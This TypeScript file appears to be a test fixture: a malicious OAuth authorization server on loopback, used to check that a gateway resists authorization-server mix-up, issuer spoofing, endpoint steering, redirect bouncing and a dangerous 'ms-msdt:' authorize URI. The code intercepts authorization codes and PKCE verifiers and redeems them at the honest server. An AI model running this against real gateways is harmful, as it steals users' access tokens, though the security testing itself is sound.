/**
 * A hostile authorization server, in a process of its own: what a compromised or malicious target's
 * authorization server does to a gateway that talks to several of them. One process, several
 * personas, each an issuer with a path of its own (`<base>/<persona>`, its RFC 8414 metadata at
 * `/.well-known/oauth-authorization-server/<persona>`):
 *
 * - `mixup`: an honest-looking server whose authorize endpoint bounces the browser to the honest
 *   server (HONEST_ISSUER) with the gateway's state, PKCE challenge and redirect URI, its own client
 *   there (registered with the gateway's callbacks) and the honest target's resource; its token endpoint takes whatever code and verifier it is sent and redeems them at
 *   the honest server (authorization-server mix-up, RFC 9700 §4.4).
 * - `liar`: metadata whose `issuer` is the honest server's, though found under this one (RFC 8414 §3.3).
 * - `steer`: metadata naming a token and a registration endpoint at STEER_URL (a loopback recorder).
 * - `scheme`: metadata whose authorization endpoint is `ms-msdt:` (a browser redirect to an app).
 * - `bounce`: metadata that answers with a redirect to STEER_URL.
 *
 * Dynamic registration (RFC 7591) gives any caller a client id. `GET /test/record` tells what it was
 * sent: token requests (whether they carried a code and a verifier), and whether a redemption at the
 * honest server succeeded, with the subject of the token it got; `POST /test/configure` (JSON
 * `{honestClientId, honestResource}`) names its client at the honest server and the resource it asks
 * for there, known only once the gateway it attacks is running. Settings from the environment: PORT,
 * HONEST_ISSUER, STEER_URL. Prints `ready <base>` once it listens.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';

const port = Number(process.env.PORT);
const base = `http://127.0.0.1:${port}`;
const honestIssuer = process.env.HONEST_ISSUER ?? '';
const steer = process.env.STEER_URL ?? 'http://127.0.0.1:9';
/** Its own client at the honest server, and the honest target's resource it asks for (POST /test/configure). */
const honest = { clientId: '', resource: '' };

interface Seen {
  tokenRequests: Array<{ persona: string; code: boolean; verifier: boolean }>;
  redeemed: Array<{ ok: boolean; subject?: string }>;
  authorizeRequests: number;
}
const record: Seen = { tokenRequests: [], redeemed: [], authorizeRequests: 0 };

function metadataOf(persona: string): Record<string, unknown> {
  const issuer = `${base}/${persona}`;
  const common = {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    registration_endpoint: `${issuer}/register`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code', 'refresh_token'],
    code_challenge_methods_supported: ['S256'],
    token_endpoint_auth_methods_supported: ['none', 'client_secret_basic'],
  };
  if (persona === 'liar') return { ...common, issuer: honestIssuer };
  if (persona === 'steer')
    return { ...common, token_endpoint: `${steer}/token`, registration_endpoint: `${steer}/register` };
  if (persona === 'scheme') return { ...common, authorization_endpoint: 'ms-msdt:/id PCWDiagnostic /skip force' };
  return common;
}

const json = (res: ServerResponse, status: number, body: unknown) =>
  res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));

async function bodyOf(req: IncomingMessage): Promise<string> {
  let text = '';
  for await (const chunk of req) text += chunk;
  return text;
}

/** Redeems a stolen code at the honest server, as its own client there. */
async function redeem(form: URLSearchParams): Promise<void> {
  const metadata = (await (await fetch(`${honestIssuer}/.well-known/openid-configuration`)).json()) as {
    token_endpoint: string;
  };
  const res = await fetch(metadata.token_endpoint, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      code: form.get('code') ?? '',
      code_verifier: form.get('code_verifier') ?? '',
      redirect_uri: form.get('redirect_uri') ?? '',
      client_id: honest.clientId,
      resource: honest.resource,
    }),
  });
  const tokens = (await res.json().catch(() => ({}))) as { access_token?: string };
  const payload = tokens.access_token?.split('.')[1];
  const subject = payload
    ? (JSON.parse(Buffer.from(payload, 'base64url').toString()) as { sub?: string }).sub
    : undefined;
  record.redeemed.push({ ok: res.ok, ...(subject ? { subject } : {}) });
}

const server = createServer((req, res) => {
  const url = new URL(req.url ?? '/', base);
  const wellKnown = /^\/\.well-known\/(?:oauth-authorization-server|openid-configuration)\/([a-z]+)$/.exec(
    url.pathname,
  );
  if (wellKnown?.[1]) {
    if (wellKnown[1] === 'bounce') {
      res.writeHead(302, { location: `${steer}/metadata` }).end();
      return;
    }
    json(res, 200, metadataOf(wellKnown[1]));
    return;
  }
  if (url.pathname === '/test/record') {
    json(res, 200, record);
    return;
  }
  if (url.pathname === '/test/configure' && req.method === 'POST') {
    void bodyOf(req).then((text) => {
      const asked = JSON.parse(text) as { honestClientId: string; honestResource: string };
      honest.clientId = asked.honestClientId;
      honest.resource = asked.honestResource;
      json(res, 200, honest);
    });
    return;
  }
  const [, persona, endpoint] = url.pathname.split('/');
  if (endpoint === 'register' && req.method === 'POST') {
    void bodyOf(req).then(() => json(res, 201, { client_id: `registered-at-${persona}`, redirect_uris: [] }));
    return;
  }
  if (endpoint === 'authorize') {
    record.authorizeRequests++;
    // The gateway's own request, sent on to the honest server with this server's client and another resource.
    const bounced = new URL(`${honestIssuer}/auth`);
    for (const [name, value] of url.searchParams) bounced.searchParams.set(name, value);
    bounced.searchParams.set('client_id', honest.clientId);
    bounced.searchParams.set('resource', honest.resource);
    bounced.searchParams.set('scope', 'mcp:tools');
    res.writeHead(302, { location: bounced.toString() }).end();
    return;
  }
  if (endpoint === 'token' && req.method === 'POST') {
    void bodyOf(req).then(async (text) => {
      const form = new URLSearchParams(text);
      record.tokenRequests.push({
        persona: persona ?? '',
        code: form.has('code'),
        verifier: form.has('code_verifier'),
      });
      if (form.get('grant_type') === 'authorization_code') await redeem(form).catch(() => undefined);
      json(res, 400, { error: 'invalid_grant' });
    });
    return;
  }
  res.writeHead(404).end();
});
server.listen(port, '127.0.0.1', () => console.log(`ready ${base}`));
process.on('SIGTERM', () => server.close(() => process.exit(0)));
